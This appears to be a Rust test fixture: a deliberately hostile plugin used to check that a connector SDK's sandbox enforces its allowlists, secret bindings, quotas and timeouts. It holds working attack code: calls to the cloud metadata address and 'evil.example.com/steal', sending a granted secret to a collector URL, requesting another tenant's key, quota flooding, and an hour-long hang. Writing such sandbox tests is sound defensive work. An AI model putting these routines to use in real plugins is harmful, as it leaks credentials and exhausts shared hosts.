//! Hostile target for sandbox tests. `settings.mode` picks the attack; the outcome is reported in
//! the error so the test can check it:
//! - `egress`: calls origins off its allowlist (a metadata address, a foreign host);
//! - `exfiltrate`: sends its granted secret to an allowlisted origin that is not the secret's
//!   bound origin, and asks for a secret it was not granted;
//! - `flood`: writes 5,000 audit lines, 2,000 state keys of 1 KiB and 5,000 log lines in one
//!   call, and reports how many of each the host refused;
//! - `hang`: never answers `list-documents` or `fiscal-period-open`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use ml_connector_sdk::target::exports::ml_connector::plugin::target_api::{
    Guest, LedgerBalance, SettleOutcome, TargetError, WriteOutcome,
};
use ml_connector_sdk::target::ml_connector::plugin::http::{self, Method, Request};
use ml_connector_sdk::target::ml_connector::plugin::types::*;
use ml_connector_sdk::target::ml_connector::plugin::{audit, log, secrets, settings, state};

struct HostileTarget;

fn get(url: &str, credential: Option<&secrets::Secret>) -> String {
    let req =
        Request { method: Method::Get, url: url.to_string(), headers: vec![], body: None, timeout_ms: Some(2_000) };
    match http::send(&req, credential) {
        Ok(r) => format!("{url}=status:{}", r.status),
        Err(e) => format!("{url}={e:?}"),
    }
}

fn attack() -> String {
    let mode = settings::get("mode").unwrap_or_default();
    let collector = settings::get("collector").unwrap_or_default();
    match mode.as_str() {
        "egress" => [
            get("http://169.254.169.254/latest/meta-data/", None),
            get("https://evil.example.com/steal", None),
            get(&collector, None),
        ]
        .join(" | "),
        "exfiltrate" => {
            let mine = match secrets::lookup("ledger-key") {
                Ok(s) => get(&collector, Some(&s)),
                Err(e) => format!("ledger-key={e:?}"),
            };
            let theirs = match secrets::lookup("other-tenant-key") {
                Ok(s) => format!("other-tenant-key=granted:{}", s.name()),
                Err(e) => format!("other-tenant-key={e:?}"),
            };
            [mine, theirs].join(" | ")
        }
        "flood" => flood(),
        other => format!("unknown mode {other:?}"),
    }
}

/// `mode = "hang"`: a look-up that never answers (an hour's sleep: host time, not guest CPU,
/// so only the call's wall-clock limit can cut it).
fn hang_if_asked() {
    if settings::get("mode").as_deref() == Some("hang") {
        std::thread::sleep(std::time::Duration::from_secs(3600));
    }
}

/// Everything a guest can grow at once; the host's quotas decide what lands.
fn flood() -> String {
    for i in 0..5_000 {
        audit::append("flood", audit::Outcome::Info, &format!("line {i} {}", "x".repeat(200)));
    }
    let refused_state = (0..2_000).filter(|i| state::set(&format!("k{i}"), &[7u8; 1024]).is_err()).count();
    for i in 0..5_000 {
        log::log(log::Level::Info, &format!("log line {i}"));
    }
    format!("flooded: state refused {refused_state}")
}

impl Guest for HostileTarget {
    fn ensure_customer(_c: GpCustomer) -> Result<WriteOutcome, TargetError> {
        Err(TargetError::Permanent(attack()))
    }

    fn write_document(_doc: LedgerDoc) -> Result<WriteOutcome, TargetError> {
        Err(TargetError::Permanent(attack()))
    }

    fn find_document(_kind: DocKind, _number: String) -> Result<Option<LedgerDoc>, TargetError> {
        Ok(None)
    }

    fn fiscal_period_open(_date: Date) -> Result<bool, TargetError> {
        hang_if_asked();
        Ok(true)
    }

    fn list_documents(_customer_id: String) -> Result<Vec<LedgerBalance>, TargetError> {
        hang_if_asked();
        Err(TargetError::Permanent("this test ledger keeps no balances".into()))
    }

    fn settle(_doc: LedgerDoc) -> Result<SettleOutcome, TargetError> {
        hang_if_asked();
        Err(TargetError::Rejected("this test ledger does not apply or void".into()))
    }

    fn batch_posted(_batch: BatchKey) -> Result<bool, TargetError> {
        hang_if_asked();
        Ok(true)
    }
}

ml_connector_sdk::export_target!(HostileTarget);
